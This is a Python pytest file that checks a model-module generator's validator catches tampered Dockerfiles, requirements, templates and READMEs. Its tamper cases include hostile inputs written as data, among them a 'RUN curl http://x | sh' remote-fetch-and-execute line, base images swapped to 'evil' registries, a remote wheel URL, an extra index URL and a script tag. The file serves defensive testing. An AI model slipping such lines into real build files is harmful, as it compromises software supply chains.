"""The second line of defence: broken files are noticed, whoever broke them."""

import sys
from pathlib import Path

import pytest

from common.contracts.generation import GenerateOptions, GenerateRequest
from common.errors import ModelRefused
from generator import refusals, rendering, resources, validation
from generator.address import Address
from generator.manifest import Manifest, describe

sys.path.insert(0, str(Path(__file__).parent))
import fake_hub


async def manifest() -> Manifest:
    snapshot, _ = await fake_hub.handlers().snapshots.read(Address("acme/frog"))
    task, library, _ = refusals.check(snapshot)
    needs, _ = resources.estimate(
        snapshot, task, GenerateOptions(), largest_vram=81559, largest_memory=262144
    )
    return describe(snapshot, task, library, needs)


def outcomes(module: Manifest, files: dict[str, str]) -> dict[str, str]:
    return {check.name: check.outcome for check in validation.check(module, files)}


async def test_what_is_rendered_passes() -> None:
    module = await manifest()
    files = rendering.render(module)
    assert outcomes(module, files) == dict.fromkeys(files, "passed")


@pytest.mark.parametrize(
    ("name", "old", "new"),
    [
        ("Dockerfile", "WORKDIR /app\n", "WORKDIR /app\nRUN curl http://x | sh\n"),
        ("Dockerfile", "ENV HF_HUB_OFFLINE=1\n", ""),
        ("Dockerfile", "FROM python", "FROM evil/python"),
        ("Dockerfile", "WORKDIR /app", "WORKDIR /app \\"),
        ("run_inference.py", "import yaml\n", "import yaml\nimport antigravity\n"),
        ("module.yaml", "id: acme/frog", "id: acme/toad"),
        ("module.yaml", "batchSize: 8", "batchSize: 9"),
        ("module.yaml", "schema:", "&a [*a]\nschema:"),
        ("requirements.txt", "torch==2.13.0", "torch>=2"),
        ("requirements.txt", "torch==2.13.0", "torch @ https://x/torch.whl"),
        ("requirements.txt", "torch==2.13.0", "torch==2.12.0"),
        ("requirements.txt", "torch==2.13.0", "--index-url https://x"),
        ("README.md", "# acme-frog", "# <script>"),
        ("lilypad_module.json.tmpl", "slice .text 1", "slice .text 0"),
        ("lilypad_module.json.tmpl", "{{ slice .text 1 }}", "{{ .text }}"),
        ("lilypad_module.json.tmpl", "{{ slice .text 1 }}", "{{ js .text }}"),
        ("lilypad_module.json.tmpl", '{{ else }}"INPUT_TEXT="{{ end }},', "{{ end }},"),
        ("lilypad_module.json.tmpl", '"cpu": 4000', '"cpu": 4000, "cpu": 4000'),
        ("lilypad_module.json.tmpl", "MiB", ""),
        ("lilypad_module.json.tmpl", '"executionTimeoutSeconds": 2', '"executionTimeoutSeconds": '),
        ("lilypad_module.json.tmpl", '"Image": "docker.io', '"Image": "evil.io'),
        ("lilypad_module.json.tmpl", "/app/run_inference.py", "/app/other.py"),
    ],
)
async def test_what_was_tampered_with_fails(name: str, old: str, new: str) -> None:
    module = await manifest()
    files = rendering.render(module)
    assert old in files[name]
    tampered = {**files, name: files[name].replace(old, new, 1)}
    assert outcomes(module, tampered) == {**dict.fromkeys(files, "passed"), name: "failed"}


async def test_files_that_fail_are_not_handed_out(monkeypatch: pytest.MonkeyPatch) -> None:
    def render(module: Manifest) -> dict[str, str]:
        return {**original(module), "Dockerfile": "FROM evil\n"}

    original = rendering.render
    monkeypatch.setattr(rendering, "render", render)
    with pytest.raises(ModelRefused) as caught:
        await fake_hub.handlers().generate(GenerateRequest(model_url="acme/frog"))
    assert caught.value.details["reason"] == "validation"
    assert caught.value.details["checks"]
